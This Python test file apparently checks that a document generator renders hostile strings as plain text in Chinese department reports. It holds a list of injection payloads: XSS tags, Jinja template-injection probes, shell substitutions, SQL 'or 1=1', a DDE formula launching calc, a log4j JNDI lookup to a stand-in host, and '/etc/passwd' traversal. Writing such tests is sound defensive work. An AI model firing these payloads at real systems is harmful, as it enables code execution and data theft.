"""Texts that would be something else in another language, and are only texts here."""

from tests.hostile.cases import ABOUT, OFFICE, PROJECT, WORDS, Case, added, both, replaced

_TEXTS = {
    "yes": "yes", "no": "NO", "null": "null", "octal": "0123", "sexagesimal": "12:30:45",
    "a number": "1_000", "a power": "1e400", "nan": ".nan", "a day": "2025-01-01", "hex": "0x1F",
    "a script": "'<script>alert(1)</script>'", "an image": "'<img src=x onerror=alert(1)>'",
    "the end of a script": "'</script><script>alert(1)</script>'", "an entity": "'&lt;b&gt;&#60;'",
    "a quote": "'\" onmouseover=\"alert(1)'", "an apostrophe": "\"' onmouseover='alert(1)\"",
    "jinja": "'{{ 7*7 }}{% raw %}{# x #}'", "jinja out": "'{{ cycler.__init__.__globals__ }}'",
    "markdown": "'**粗** [链](javascript:alert(1)) ![图](x)'", "snippets": "'--8<-- \"/etc/passwd\"'",
    "macros": "'!!! note \"x\" {: onclick=alert(1) }'", "mermaid": "'```mermaid```'",
    "format": "'%s%n {0} ${x} #{x}'", "shell": "'$(id) `id` ; id | id'", "sql": "\"' or 1=1 --\"",
    "a formula": "'=HYPERLINK(\"http://x.example\",\"x\")'", "dde": "\"@SUM(1+1)*cmd|' /C calc'!A0\"",
    "a command of GitHub": "'::error::x'", "an old one": "'##[error]x'", "a mention": "'@everyone #1'",
    "typst": "'#import \"x.typ\": * $x$ *b* @a <l>'", "comment": "'<!-- --> ]]> <![CDATA['",
    "css": "'</style><style>*{display:none}</style>'", "template": "'${alert(1)} `x`'",
    "log4j": "'${jndi:ldap://x.example/a}'", "path": "'../../../etc/passwd'", "regex": "'(a+)+$'",
}  # fmt: skip


def _plain(typed: str) -> str:
    return typed[1:-1] if typed[0] in "\"'" else typed


_LINES = "".join(f"\n          - 段: {typed}" for typed in _TEXTS.values())
_ALL = tuple(_plain(typed).replace("''", "'") for typed in _TEXTS.values())

CASES = (
    Case(
        "fine: paragraphs",
        replaced(WORDS, "\n          - 段: 负责全县示例工作。", _LINES),
        shown=_ALL,
    ),
    Case(
        "fine: lines of a cover",
        added(ABOUT, "封面:" + "".join(f"\n  - {typed}" for typed in _TEXTS.values()) + "\n"),
        shown=_ALL,
    ),
    Case(
        "fine: targets",
        replaced(
            PROJECT,
            "\n  - 1.按期完成设备购置",
            "".join(f"\n  - {typed}" for typed in _TEXTS.values()),
        ),
        shown=_ALL,
    ),
    *(
        Case(
            f"fine: a name: {name}",
            replaced(OFFICE, "部门名称: 玉田县示例局", f"部门名称: {typed}"),
            shown=(_plain(typed).replace("''", "'"),),
        )
        for name, typed in _TEXTS.items()
        if name in ("a script", "jinja", "a formula", "a command of GitHub", "typst", "octal")
    ),
    Case(
        "fine: long texts",
        both(
            replaced(WORDS, "负责全县示例工作。", f"'{'[' * 15_000}'"),
            replaced(WORDS, "我部门无主管专项资金。", f"'{'*_`' * 5_000}'"),
            replaced(WORDS, "我部门无其他需要说明的事项。", "w" * 15_000),
        ),
        shown=("w" * 15_000,),
    ),
)
